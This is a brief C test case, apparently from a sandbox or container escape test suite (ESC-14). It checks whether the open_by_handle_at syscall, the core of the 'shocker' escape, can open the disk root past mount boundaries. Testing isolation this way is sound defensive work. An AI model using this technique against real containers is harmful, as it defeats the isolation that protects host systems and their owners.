// Opens the root of the disk by its file handle, past every mount: "shocker".
// victim: id=ESC-14
#include "victim.h"

int main(void) {
  struct {
    struct file_handle head;
    char bytes[128];
  } handle = {.head = {.handle_bytes = 8, .handle_type = 1}};
  uint32_t root[2] = {2, 0};
  memcpy(handle.head.f_handle, root, sizeof root);
  int here = open("/", O_RDONLY | O_DIRECTORY);
  long result = syscall(SYS_open_by_handle_at, here, &handle.head, O_RDONLY);
  // A stale handle is refused by a file system that was asked: the call itself was let through.
  attempt("open_by_handle_at", result < 0 && errno == ESTALE ? 0 : result);
  return conclude();
}
